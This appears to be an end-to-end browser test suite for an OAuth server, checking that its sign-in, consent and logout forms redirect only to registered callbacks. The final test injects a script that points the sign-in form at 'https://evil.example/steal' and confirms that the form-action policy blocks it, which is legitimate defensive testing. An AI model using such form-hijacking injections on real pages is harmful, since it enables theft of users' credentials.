/** Where our forms let Chromium go in the end: to each kind of redirect URI that a client may have, and nowhere else. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { ClientSite } from './support/client-site';
import { ADA, authorizationRequest, redeem, SITE } from './support/clients';
import { newPerson, press, signIn } from './support/hosted-browser';
import { startStage, type Stage } from './support/stage';

let stage: Stage;
/** A program on the person's own computer, on a port that nobody registered. */
let program: ClientSite;

beforeAll(async () => {
  [stage, program] = await Promise.all([startStage(), ClientSite.start()]);
});
afterAll(async () => {
  await stage?.stop();
  await program?.stop();
});
beforeEach(() => (program.arrivals.length = 0));

const path = (address: string) => new URL(address).pathname;

describe.each([
  ['with scripts', true],
  ['with JavaScript turned off', false],
])('[browser] [sqlite] a form of ours leads, %s,', (_, javaScriptEnabled) => {
  it.each([
    ['/callback', 'registered without a port'],
    ['/other', 'registered with another port'],
  ])('to a program on this computer: %s, %s', async (callback) => {
    const { context, page, faults } = await newPerson(stage.browser, { javaScriptEnabled });
    const redirectUri = `${program.origin}${callback}`;
    const request = authorizationRequest(stage.issuer, 'desktop', { redirect_uri: redirectUri });
    await page.goto(request.url);
    await signIn(page, ADA);
    expect(path(page.url())).toBe('/consent');
    expect(await page.locator('main').innerText()).toContain('A program on this computer');
    await press(page, 'Allow');
    expect(program.arrivals).toHaveLength(1);
    const { url, parameters } = program.last;
    expect(url.origin + url.pathname).toBe(redirectUri);
    expect(parameters).toEqual({ code: expect.any(String), state: request.state, iss: stage.issuer });
    expect((await redeem(stage.issuer, request, parameters['code'])).status).toBe(200);

    // Any program can ask in this name (RFC 8252 §8.6): each time is a question, and none means no.
    await page.goto(authorizationRequest(stage.issuer, 'desktop', { redirect_uri: redirectUri }).url);
    expect(path(page.url())).toBe('/consent');
    await press(page, 'Don’t allow');
    expect(program.last.parameters).toMatchObject({ error: 'access_denied' });
    const none = { redirect_uri: redirectUri, prompt: 'none' };
    await page.goto(authorizationRequest(stage.issuer, 'desktop', none).url);
    expect(program.last.parameters).toMatchObject({ error: 'consent_required' });
    expect(faults).toEqual([]);
    await context.close();
  });

  it('to a web site, from sign-in as from consent', async () => {
    const { context, page, faults } = await newPerson(stage.browser, { javaScriptEnabled });
    await page.goto(authorizationRequest(stage.issuer, 'shop', { prompt: 'consent' }).url);
    await signIn(page, ADA);
    await press(page, 'Allow');
    expect(page.url()).toContain(`${SITE}/callback?code=`);
    // Consent is known now, so the sign-in form itself ends at the client.
    await page.goto(authorizationRequest(stage.issuer, 'shop', { prompt: 'login' }).url);
    await signIn(page, ADA);
    expect(page.url()).toContain(`${SITE}/callback?code=`);
    await page.goto(authorizationRequest(stage.issuer, 'shop', { prompt: 'login' }).url);
    await press(page, 'Cancel and go back to Example Shop');
    expect(page.url()).toContain(`${SITE}/callback?error=access_denied`);
    // Signing out ends at the client too, after the question.
    const back = new URLSearchParams({ client_id: 'shop', post_logout_redirect_uri: `${SITE}/signed-out` });
    await page.goto(`${stage.issuer}/oauth/logout?${back}`);
    await press(page, 'Sign out');
    expect(page.url()).toBe(`${SITE}/signed-out`);
    expect(faults).toEqual([]);
    await context.close();
  });

  it('to a web site whose callback sends the browser on to another site', async () => {
    stage.site.sendOn('/broker', 'https://application.example/home');
    const { context, page, faults } = await newPerson(stage.browser, { javaScriptEnabled });
    const request = authorizationRequest(stage.issuer, 'shop', { redirect_uri: `${SITE}/broker`, prompt: 'consent' });
    await page.goto(request.url);
    await signIn(page, ADA);
    await press(page, 'Allow');
    expect(page.url()).toBe('https://application.example/home');
    expect(faults).toEqual([]);
    await context.close();
  });

  it('to an installed program, by a page with a button', async () => {
    const { context, page, faults } = await newPerson(stage.browser, { javaScriptEnabled });
    const request = authorizationRequest(stage.issuer, 'phone', { redirect_uri: 'com.example.phone:/callback' });
    await page.goto(request.url);
    await signIn(page, ADA);
    expect(await page.locator('main').innerText()).toContain('A program installed on this device (com.example.phone:)');
    await press(page, 'Allow');
    expect(await page.locator('h1').innerText()).toBe('Taking you back');
    const address = new URL((await page.getByRole('link', { name: 'Continue' }).getAttribute('href')) ?? '');
    expect(address.protocol + address.pathname).toBe('com.example.phone:/callback');
    const parameters = Object.fromEntries(address.searchParams);
    expect(parameters).toEqual({ code: expect.any(String), state: request.state, iss: stage.issuer });
    expect((await redeem(stage.issuer, request, parameters['code'])).status).toBe(200);
    // Chromium tells the console that it will not open a program nobody pressed a button for; that is why there is one.
    expect(faults.filter((fault) => !/Not allowed to launch 'com\.example\.phone:/.test(fault))).toEqual([]);
    await context.close();
  });
});

describe('[browser] [sqlite] a form of ours', () => {
  const six: Server = createServer();
  afterAll(async () => {
    six.closeAllConnections();
    await new Promise((closed) => six.close(closed));
  });

  const speaksIpv6 = Object.values(networkInterfaces()).some((all) => all?.some(({ address }) => address === '::1'));
  (speaksIpv6 ? it : it.skip)('leads to a program that listens on IPv6', async () => {
    six.on('request', (_request, response) => response.end('<link rel=icon href="data:,"><title>program</title>'));
    await new Promise<void>((listening, failed) => six.once('error', failed).listen(0, '::1', listening));
    const redirectUri = `http://[::1]:${(six.address() as AddressInfo).port}/callback`;
    const { context, page, faults } = await newPerson(stage.browser);
    await page.goto(authorizationRequest(stage.issuer, 'desktop', { redirect_uri: redirectUri }).url);
    await signIn(page, ADA);
    await press(page, 'Allow');
    await page.waitForURL(`${redirectUri}?**`);
    expect(new URL(page.url()).searchParams.get('code')).toMatch(/./);
    expect(faults).toEqual([]);
    await context.close();
  });

  it('leads nowhere else, whatever got into the page', async () => {
    const { context, page, faults } = await newPerson(stage.browser);
    await page.goto(authorizationRequest(stage.issuer, 'shop').url);
    await page.evaluate(`document.forms[0].action = 'https://evil.example/steal'`);
    const before = stage.site.arrivals.length;
    await page.getByLabel('Username or email').fill('ada');
    await page.getByRole('button', { name: 'Sign in', exact: true }).click({ noWaitAfter: true });
    while (faults.length === 0) await page.waitForEvent('console');
    expect(stage.site.arrivals).toHaveLength(before);
    expect(faults).toEqual([expect.stringContaining('form-action')]);
    await context.close();
  });
});
